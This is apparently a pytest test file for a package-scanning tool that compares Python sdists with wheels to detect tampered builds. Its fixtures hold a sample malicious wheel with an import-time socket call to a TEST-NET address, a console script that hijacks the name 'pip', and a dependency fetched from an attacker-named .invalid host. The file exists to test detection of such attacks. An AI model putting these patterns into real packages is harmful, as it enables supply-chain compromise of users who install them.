"""The cross-check on texts the scan carried (ScanResult.carried) instead of re-read archives.

The scan keeps the declaration and build-file texts it already had in memory; the cross-check
must give the same findings with them as by reading both archives, open an archive only for
what no result carries, and never let the carried texts reach a report or the cache.
Payloads are inert (a TEST-NET address and an `.invalid` host, never contacted).
"""

from __future__ import annotations

import io
import json
import tarfile
from dataclasses import replace
from pathlib import Path, PurePosixPath

import pytest

from builders import make_sdist, make_wheel, pkg_info
from pkgvet import crosscheck
from pkgvet.cache import result_from_dict
from pkgvet.model import ArtifactKind, ScanResult
from pkgvet.options import ScanOptions
from pkgvet.package import Artifact
from pkgvet.pipeline import scan_artifact, scan_artifacts
from pkgvet.report.json_format import result_dict
from pkgvet.sources.local import local_artifact
from test_crosscheck import CASES, Files

DIST = "relpkg-1.0.dist-info"
SETUP = "from setuptools import setup\nsetup()\n"
CFG = ("[metadata]\nname = relpkg\n[options]\npackages = find:\ninstall_requires =\n"
       "    requests\n[options.entry_points]\nconsole_scripts =\n    relpkg = relpkg.cli:main\n")
CLI = "def main():\n    pass\n"

# One release whose wheel was not built from its sdist in all four ways at once: a changed
# __init__ that imports a wheel-only module (PV531, PV530), an extra console script (PV532)
# and an extra dependency (PV533).
ALL_FOUR_SDIST: Files = {
    "setup.py": SETUP, "setup.cfg": CFG, "relpkg/__init__.py": "VALUE = 1\n",
    "relpkg/cli.py": CLI, "PKG-INFO": pkg_info("relpkg", "1.0", "Requires-Dist: requests\n"),
}
ALL_FOUR_WHEEL: Files = {
    "relpkg/__init__.py": "VALUE = 1\nimport relpkg_boot\nrelpkg_boot.ping()\n",
    "relpkg_boot.py": "import socket\n\ndef ping():\n"
                      "    return socket.create_connection(('203.0.113.9', 443))\n",
    "relpkg/cli.py": CLI,
    f"{DIST}/entry_points.txt": "[console_scripts]\nrelpkg = relpkg.cli:main\n"
                                "pip = relpkg_boot:ping\n",
    f"{DIST}/METADATA": pkg_info("relpkg", "1.0", "Requires-Dist: requests\n"
                                 "Requires-Dist: helper @ https://cdn.attacker.invalid/h.whl\n"),
}
# Same release, built from its sdist: nothing differs, so nothing needs the archives.
CLEAN_SDIST: Files = {k: v for k, v in ALL_FOUR_SDIST.items()}
CLEAN_WHEEL: Files = {
    "relpkg/__init__.py": "VALUE = 1\n", "relpkg/cli.py": CLI,
    f"{DIST}/entry_points.txt": "[console_scripts]\nrelpkg = relpkg.cli:main\n",
    f"{DIST}/METADATA": pkg_info("relpkg", "1.0", "Requires-Dist: requests\n"),
}


def _scan(tmp_path: Path, sdist: Files, wheel: Files) -> tuple[list[Artifact], list[ScanResult]]:
    artifacts = [local_artifact(make_sdist(tmp_path, "relpkg", "1.0", sdist)),
                 local_artifact(make_wheel(tmp_path, "relpkg", "1.0", wheel))]
    return artifacts, [scan_artifact(a, carry=True) for a in artifacts]


def _wheel(results: list[ScanResult]) -> ScanResult:
    return next(r for r in results if r.kind is ArtifactKind.WHEEL)


def _both_ways(artifacts: list[Artifact], results: list[ScanResult]) -> tuple[ScanResult, ...]:
    """The wheel's result cross-checked with the carried texts and with none (cache, remote)."""
    assert all(r.carried for r in results), "the scan carried no texts"
    carried = _wheel(crosscheck.apply(results, artifacts))
    bare = _wheel(crosscheck.apply([replace(r, carried=()) for r in results], artifacts))
    return carried, bare


def _same(a: ScanResult, b: ScanResult) -> None:
    assert a.findings == b.findings
    assert a.verdict is b.verdict
    assert a.errors == b.errors


def test_all_four_differences_are_found_the_same_way_with_carried_texts(tmp_path: Path) -> None:
    carried, bare = _both_ways(*_scan(tmp_path, ALL_FOUR_SDIST, ALL_FOUR_WHEEL))
    _same(carried, bare)
    ids = {f.rule_id for f in carried.findings}
    assert {"PV530", "PV531", "PV532", "PV533"} <= ids, sorted(ids)


@pytest.mark.parametrize("technique", sorted(CASES))
def test_every_crosscheck_case_is_the_same_with_carried_texts(technique: str,
                                                              tmp_path: Path) -> None:
    case = CASES[technique]
    _same(*_both_ways(*_scan(tmp_path, case.sdist, case.wheel)))


def test_texts_the_scan_did_not_keep_are_read_from_the_archive(tmp_path: Path) -> None:
    """A setup.cfg with a NUL byte looks binary to the scan and a PKG-INFO over MAX_TEXT is
    too long to carry: the cross-check reads what it always read, and finds the same."""
    sdist = dict(ALL_FOUR_SDIST)
    sdist["setup.cfg"] = CFG.encode() + b"\n# \x00\n"
    sdist["PKG-INFO"] = pkg_info("relpkg", "1.0", "Requires-Dist: requests\n\n") \
        + "x" * (crosscheck.MAX_TEXT + 10)
    artifacts, results = _scan(tmp_path, sdist, CLEAN_WHEEL)
    carried_paths = {rel for r in results for rel, _ in r.carried}
    assert "setup.cfg" not in carried_paths and "PKG-INFO" not in carried_paths
    _same(*_both_ways(artifacts, results))


def _tar_with_twice(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with tarfile.open(path, "w:gz") as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


def test_a_declaration_named_twice_is_read_as_before(tmp_path: Path) -> None:
    """Two PKG-INFO members: the one pip reads need not be the one a scanner reads. Neither
    is carried; the cross-check reads the archive exactly as it did before carrying."""
    root = "relpkg-1.0/"
    honest = pkg_info("relpkg", "1.0", "Requires-Dist: requests\n").encode()
    other = pkg_info("relpkg", "1.0", "Requires-Dist: requests\nRequires-Dist: helper\n")
    sdist = _tar_with_twice(tmp_path / "relpkg-1.0.tar.gz", [
        (root + "PKG-INFO", honest), (root + "setup.py", SETUP.encode()),
        (root + "relpkg/__init__.py", b"VALUE = 1\n"), (root + "relpkg/cli.py", CLI.encode()),
        (root + "PKG-INFO", other.encode()),
    ])
    wheel = make_wheel(tmp_path, "relpkg", "1.0", CLEAN_WHEEL)
    artifacts = [local_artifact(sdist), local_artifact(wheel)]
    results = [scan_artifact(a, carry=True) for a in artifacts]
    sdist_result = next(r for r in results if r.kind is ArtifactKind.SDIST)
    assert "PKG-INFO" not in dict(sdist_result.carried)
    _same(*_both_ways(artifacts, results))


def test_carried_keys_are_the_crosschecks_relpaths(tmp_path: Path) -> None:
    _, results = _scan(tmp_path, ALL_FOUR_SDIST, ALL_FOUR_WHEEL)
    sdist, wheel = (next(r for r in results if r.kind is k)
                    for k in (ArtifactKind.SDIST, ArtifactKind.WHEEL))
    assert set(dict(sdist.carried)) == {"setup.py", "setup.cfg", "PKG-INFO"}
    assert dict(sdist.carried)["setup.cfg"] == CFG
    assert set(dict(wheel.carried)) == {f"{DIST}/entry_points.txt", f"{DIST}/METADATA"}


class _Opened(Exception):
    pass


def _no_archive(*args: object, **kwargs: object) -> None:
    raise _Opened("the cross-check opened an archive")


def test_with_carried_texts_and_no_differing_file_no_archive_is_opened(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Same Python files on both sides, other declarations: PV532 and PV533 come from the
    carried texts alone."""
    wheel = dict(ALL_FOUR_WHEEL)
    wheel["relpkg/__init__.py"] = "VALUE = 1\n"
    del wheel["relpkg_boot.py"]
    artifacts, results = _scan(tmp_path, CLEAN_SDIST, wheel)
    monkeypatch.setattr(crosscheck, "ArchiveReader", _no_archive)
    out = crosscheck.apply(results, artifacts)
    checked = _wheel(out)
    assert not checked.errors
    assert {"PV532", "PV533"} <= {f.rule_id for f in checked.findings}
    assert all(not r.carried for r in out), "texts outlived the cross-check"
    # Without carried texts the same call must open the archives (the patch is live).
    bare = _wheel(crosscheck.apply([replace(r, carried=()) for r in results], artifacts))
    assert any("_Opened" in e for e in bare.errors)


def test_a_differing_file_opens_the_archives_only_for_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    artifacts, results = _scan(tmp_path, ALL_FOUR_SDIST, ALL_FOUR_WHEEL)
    asked: list[set[str]] = []
    read = crosscheck._read_texts

    def spy(side: crosscheck.Side, wanted: set[str]) -> dict[str, str]:
        asked.append(set(wanted))
        return read(side, wanted)

    monkeypatch.setattr(crosscheck, "_read_texts", spy)
    crosscheck.apply(results, artifacts)
    assert sorted(map(sorted, asked)) == [["relpkg/__init__.py"], ["relpkg/__init__.py"]]


def test_carried_texts_stay_out_of_reports_and_the_cache(tmp_path: Path) -> None:
    _, results = _scan(tmp_path, ALL_FOUR_SDIST, ALL_FOUR_WHEEL)
    for r in results:
        bare = replace(r, carried=())
        assert json.dumps(result_dict(r)) == json.dumps(result_dict(bare))
        assert r == bare and repr(r) == repr(bare)
        assert result_from_dict(result_dict(r)).carried == ()



@pytest.mark.parametrize("name", ["mod.py", ".py", "mod.", "a.b.py", "noext", ".hidden.py",
                                  "a..py", "x.tar.gz", "..", "_speedups.cpython-311.so"])
def test_suffix_and_stem_match_pathlib(name: str) -> None:
    path = PurePosixPath(name)
    assert crosscheck._suffix_stem(name) == (path.suffix, path.stem)


def _counterparts_by_every_tail(sdist: dict[str, str], wheel: dict[str, str]) -> list[tuple[str, str]]:
    """The matching as first written (every tail of every sdist path), for comparison."""
    by_tail: dict[str, list[str]] = {}
    for rel in sdist:
        if rel.endswith(".py"):
            parts = rel.split("/")
            for i in range(len(parts)):
                by_tail.setdefault("/".join(parts[i:]), []).append(rel)
    pairs = []
    for rel, digest in wheel.items():
        installed = crosscheck._wheel_install_path(rel)
        if installed is None or not installed.endswith(".py") \
                or crosscheck.GENERATED.search(installed):
            continue
        candidates = by_tail.get(installed, [])
        if not candidates or any(sdist[c] == digest for c in candidates):
            continue
        pairs.append((rel, min(candidates, key=len)))
    return pairs[:crosscheck.MAX_COMPARED]


def test_counterparts_match_by_path_tail(tmp_path: Path) -> None:
    sdist = {"setup.py": "s", "relpkg/__init__.py": "a", "src/relpkg/__init__.py": "b",
             "py2/relpkg/util.py": "c", "py3/relpkg/util.py": "d", "xrelpkg/cli.py": "e",
             "lib/deep/relpkg/cli.py": "f", "relpkg/mod.py": "g", "vendored/relpkg/mod.py": "h",
             "tools/setup.py": "i"}
    wheel = {"relpkg/__init__.py": "z", "relpkg/util.py": "d", "relpkg/cli.py": "y",
             "relpkg/mod.py": "x", "setup.py": "w", "other/cli.py": "v",
             "relpkg-1.0.data/purelib/relpkg/mod.py": "u", f"{DIST}/RECORD": "t"}
    artifact = local_artifact(make_wheel(tmp_path, "relpkg", "1.0", {}))
    result = scan_artifact(artifact)

    def side(files: dict[str, str]) -> crosscheck.Side:
        return crosscheck.Side(artifact, result, files, "")

    expected = _counterparts_by_every_tail(sdist, wheel)
    assert crosscheck._counterparts(side(sdist), side(wheel)) == expected
    assert ("relpkg/cli.py", "lib/deep/relpkg/cli.py") in expected  # not xrelpkg/cli.py


@pytest.mark.parametrize(("relpath", "expected"), [
    ("PKG-INFO", True), ("setup.py", True), ("setup.cfg", True), ("pyproject.toml", True),
    ("relpkg.egg-info/requires.txt", True), ("src/relpkg.egg-info/entry_points.txt", True),
    ("a/b/relpkg.egg-info/requires.txt", False), ("relpkg.egg-info/dependency_links.txt", True),
    (f"{DIST}/METADATA", True), (f"{DIST}/entry_points.txt", True), (f"a/{DIST}/METADATA", False),
    ("METADATA", False), ("docs/setup.py", False), ("relpkg/PKG-INFO", False),
    ("requires.txt", False), ("relpkg/setup_utils.py", False), (f"{DIST}/RECORD", False),
])
def test_declaration_files_are_recognised_by_name_and_place(relpath: str, expected: bool) -> None:
    from pkgvet import declared

    assert declared.wanted(relpath) is expected


def test_texts_cross_from_the_scan_workers_to_the_cross_check(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """Through the worker pool (results pickled back to the parent): carried, then used."""
    artifacts = [local_artifact(make_sdist(tmp_path, "relpkg", "1.0", CLEAN_SDIST)),
                 local_artifact(make_wheel(tmp_path, "relpkg", "1.0", CLEAN_WHEEL))]
    results, errors = scan_artifacts(artifacts, ScanOptions(isolate=True), jobs=1)
    assert not errors and len(results) == 2
    assert all(r.carried for r in results)
    monkeypatch.setattr(crosscheck, "ArchiveReader", _no_archive)
    assert not _wheel(crosscheck.apply(results, artifacts)).errors


# -- which files of a batch carry texts (decided before the scan) ---------------------------


def test_a_batch_carries_only_for_files_that_may_meet_their_counterpart(tmp_path: Path) -> None:
    sdist = local_artifact(make_sdist(tmp_path, "relpkg", "1.0", CLEAN_SDIST))
    wheel = local_artifact(make_wheel(tmp_path, "relpkg", "1.0", CLEAN_WHEEL))
    other = local_artifact(make_wheel(tmp_path, "otherpkg", "2.0", {"otherpkg/__init__.py": ""}))
    key = lambda a: (a.path.name, a.sha256)  # noqa: E731
    assert crosscheck.worth_carrying([wheel]) == frozenset()
    assert crosscheck.worth_carrying([sdist]) == frozenset()
    assert crosscheck.worth_carrying([wheel, other]) == frozenset()
    assert crosscheck.worth_carrying([sdist, other]) == frozenset()  # other projects
    assert crosscheck.worth_carrying([sdist, wheel, other]) == {key(sdist), key(wheel)}
    # The index's project name counts before the file name (and is normalised).
    named = replace(other, name="RelPkg")
    assert crosscheck.worth_carrying([sdist, named]) == {key(sdist), key(named)}
    # A file whose project cannot be told is carried wherever the other kind is present.
    odd = tmp_path / "not a release name.tar.gz"
    odd.write_bytes(sdist.path.read_bytes())
    unknown = replace(sdist, path=odd, name=None, version=None)
    assert crosscheck.worth_carrying([unknown, other]) == {key(unknown), key(other)}
    assert crosscheck.worth_carrying([unknown]) == frozenset()


@pytest.mark.parametrize("isolate", [True, False])
def test_a_single_file_scan_carries_nothing(tmp_path: Path, isolate: bool) -> None:
    """One wheel (or wheels only): no counterpart, so no texts cross the worker pipe."""
    wheel = local_artifact(make_wheel(tmp_path, "relpkg", "1.0", CLEAN_WHEEL))
    results, errors = scan_artifacts([wheel], ScanOptions(isolate=isolate), jobs=1)
    assert not errors and len(results) == 1
    assert results[0].carried == ()
    assert scan_artifact(wheel).carried == ()  # direct callers (diff, the Celery job) neither


@pytest.mark.parametrize("isolate", [True, False])
def test_a_batch_with_sdist_and_wheel_still_cross_checks_from_carried_texts(
        tmp_path: Path, isolate: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    artifacts, _ = _scan(tmp_path, ALL_FOUR_SDIST, ALL_FOUR_WHEEL)
    results, errors = scan_artifacts(artifacts, ScanOptions(isolate=isolate), jobs=1)
    assert not errors and all(r.carried for r in results)
    bare = _wheel(crosscheck.apply([replace(r, carried=()) for r in results], artifacts))
    checked = _wheel(crosscheck.apply(results, artifacts))
    _same(checked, bare)
    assert {"PV530", "PV531", "PV532", "PV533"} <= {f.rule_id for f in checked.findings}
